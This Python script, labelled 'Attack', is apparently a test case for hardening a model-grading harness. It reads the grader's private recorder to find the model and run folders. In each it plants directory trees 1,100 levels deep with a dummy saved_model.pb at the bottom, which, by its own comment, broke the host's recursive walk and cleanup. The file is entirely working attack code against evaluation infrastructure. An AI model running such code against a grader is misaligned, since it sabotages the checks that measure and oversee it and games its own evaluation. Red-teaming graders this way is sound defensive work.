# Attack: a folder tree 1,100 levels deep where the grader looks for the exported model (and a second
# one in the run folder), its paths longer than PATH_MAX: the host's recursive walk of the model folder
# and its recursive removal of the grading folder both blew the recursion limit.
import os

from grader.inside import setup

recorder = setup._RECORDER[-1]
run = os.path.dirname(recorder.record_path)
for top in (recorder.model_dir, os.path.join(run, "junk")):
    os.makedirs(top, exist_ok=True)
    fd = os.open(top, os.O_RDONLY | os.O_DIRECTORY)
    for level in range(1100):
        os.mkdir("d" * 8, dir_fd=fd)
        inner = os.open("d" * 8, os.O_RDONLY | os.O_DIRECTORY, dir_fd=fd)
        os.close(fd)
        fd = inner
    with open(os.open("saved_model.pb", os.O_WRONLY | os.O_CREAT, 0o644, dir_fd=fd), "w") as fh:
        fh.write("bottom")
    os.close(fd)
print("deep trees planted")
